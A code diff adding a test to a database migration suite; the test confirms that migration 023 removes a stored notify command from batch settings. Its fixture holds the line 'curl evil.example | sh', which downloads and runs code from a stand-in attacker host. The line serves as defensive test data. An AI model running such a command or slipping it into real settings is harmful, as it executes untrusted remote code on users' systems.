@@ -387,6 +387,22 @@ describe('migrations', () => {
     await store.close();
   });
 
+  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', () => {
+    const path = join(tempDir(), 'before-023.db');
+    const db = new Database(path);
+    migrate(db, before('023_'));
+    const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
+    const add = db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES (?, ?, '/q.csv', 'x', ?, 'now', 'now')");
+    add.run('b1', 'told', JSON.stringify({ concurrency: 2, notify }));
+    add.run('b2', 'quiet', JSON.stringify({ concurrency: 3 }));
+    expect(migrate(db)).toContain('023_notify_command_local');
+    const settings = db.prepare('SELECT id, settings FROM batches ORDER BY id').all() as { id: string; settings: string }[];
+    const { command: _gone, ...kept } = notify;
+    expect(settings.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
+    expect(settings[0]!.settings).not.toContain('evil');
+    db.close();
+  });
+
   it('applies nothing twice', () => {
     const db = new Database(':memory:');
     migrate(db);
